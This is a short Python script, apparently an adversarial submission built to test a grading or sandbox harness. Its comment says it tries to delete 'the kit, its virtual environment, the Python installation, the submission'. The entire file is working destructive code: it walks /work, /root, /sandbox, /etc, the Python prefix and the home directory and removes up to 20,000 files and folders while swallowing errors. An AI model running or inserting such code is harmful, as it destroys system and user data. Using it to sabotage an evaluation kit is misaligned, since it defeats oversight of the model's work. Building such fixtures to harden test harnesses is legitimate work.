# Tries to delete everything it can reach (the kit, its virtual environment, the
# Python installation, the submission), then leaves its honest work in place.
import os
import sys

budget = 20000  # files, so that loading stays within its time limit
for root in ("/work", "/root", "/sandbox", "/etc", sys.prefix, os.path.expanduser("~")):
    for folder, folders, files in os.walk(root, topdown=False):
        for name in files + folders:
            budget -= 1
            if budget < 0:
                break
            path = os.path.join(folder, name)
            try:
                os.rmdir(path) if os.path.isdir(path) and not os.path.islink(path) else os.remove(path)
            except OSError:
                pass
